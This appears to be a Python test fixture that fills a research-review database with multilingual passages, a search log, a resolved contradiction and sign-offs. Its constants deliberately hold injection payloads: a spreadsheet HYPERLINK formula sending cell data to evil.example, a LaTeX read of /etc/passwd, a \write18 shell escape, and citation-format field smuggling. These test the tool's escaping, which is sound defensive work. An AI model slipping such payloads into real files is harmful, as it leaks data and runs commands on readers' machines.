"""A home with everything a pack must bear: hostile texts, five scripts, a signature, a search, a resolved dissent."""

import json
from datetime import date

from review.assess import standing
from review.keeping import keep
from store import documents, searches_log, signoffs
from store.db import connect, writing
from store.home import Home
from store.model import KeptPassage, NewVersion
from store.searches_log import Search
from store.signoffs import Act
from tests import site_home
from tests.site_home import AT, answer

PERSIAN = "سربازان وظیفه (۱۸ تا ۲۷ سال) به جبهه فرستاده شدند. https://example.org/x"
HEBREW = "חיילים בשירות חובה נשלחו לחזית."
UKRAINIAN = "Строковиків із Пскова відправили на фронт, кажуть їхні матері."
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
NASTY = "Conscripts \x0b <b>& {braces} 50% \\input{/etc/passwd} \u202e_x_ ]]>"
NASTY_TITLE = "A title\r\nTY  - JOUR\nER  - }, @book{x, title={y} \\write18{id} \u202e$&%#_^~"
LONG_URL = "https://paper.example/" + "a-very-long-part-of-an-address/" * 12 + "?q=%D1%81&x={y}"
TEXTS = ((PERSIAN, "fa"), (HEBREW, "he"), (UKRAINIAN, "uk"), (FORMULA, "en"), (NASTY, "en"))
SECRET = "Restricted: the witness lives in Pskov."


def make(home: Home) -> dict[str, int]:
    """Fill a home as the tests of the site do, and add what is hard to bear; the ids are those of site_home.make."""
    ids = site_home.make(home)
    conn = connect(home)
    with writing(conn):
        ids["nasty"] = keep_nasty(conn)
        for row in conn.execute("select id, text from passages where document_id = ?", [ids["nasty"]]).fetchall():
            answer(conn, row["id"], row["text"], "regular", "direct", "2022-06-10")
        searches_log.record(
            conn,
            [
                Search(
                    question_id="G1.3", country="RU", terms="срочники AND фронт", languages=("ru",), healthy=True,
                    period_from="2022-05-01", period_to="2022-06-20", source_id="report", found=0, actor="anna",
                    searched_at="2022-06-21T09:00:00Z",
                )
            ],
        )  # fmt: skip
        conn.execute(
            """insert into contradictions (question_id, country, side_a, side_b, resolution, side, reason, actor,
               decided_at) values ('G1.3', 'RU', ?, ?, 'party_interest', 'b', 'Its own army <b>says</b> so.', 'anna',
               '2022-06-22T09:00:00Z')""",
            [json.dumps([ids["evidence"]]), json.dumps([ids["evidence"] + 1])],
        )
    found = standing(conn, as_of=date(2022, 6, 25), basis="public", reading="provisional", today=date(2026, 1, 1))
    with writing(conn):
        keep(conn, found, at="2022-06-25T10:00:00Z")
        sign(conn)
    conn.close()
    return ids


def keep_nasty(conn) -> int:
    """A document of passages in four scripts, one of them no script at all; returns its id."""
    passages, start = [], 0
    for text, language in TEXTS:
        passages.append(
            KeptPassage(text=text, start=start, end=start + len(text), page=3, heading="A\r\n<h1>", language=language)
        )
        start += len(text) + 1
    version = NewVersion(
        source_id="watch", key="nasty", url=LONG_URL, title=NASTY_TITLE, language="en",
        text="\n".join(text for text, _ in TEXTS), extractor="test 1", passages=tuple(passages),
        published_on="2022-06-12", published_precision="day", published_from="time-element\r\nER  - ",
        published_confidence="low",
    )  # fmt: skip
    return documents.keep(conn, version, capture_id=None, seen_at=AT, recorded_at=AT).document_id


def sign(conn) -> None:
    """Let two people sign another status than the computed one, and a third dissent."""
    verdict = conn.execute("select id, effective from verdicts where question_id = 'G1.3' limit 1").fetchone()
    status = "insufficient" if verdict["effective"] != "insufficient" else "emerging"
    said = {"verdict_id": verdict["id"], "status": status}
    proposal = signoffs.add(
        conn, Act(act="propose", reason="Too few.\nSee <note>.", actor="anna", signed_at="2022-06-26T10:00:00Z", **said)
    )
    for act, actor in (("approve", "chief"), ("dissent", "piet")):
        signoffs.add(
            conn, Act(act=act, reason="Read it.", actor=actor, signed_at=f"{AT[:8]}27T10:00:00Z",
                      proposal_id=proposal, **said)
        )  # fmt: skip
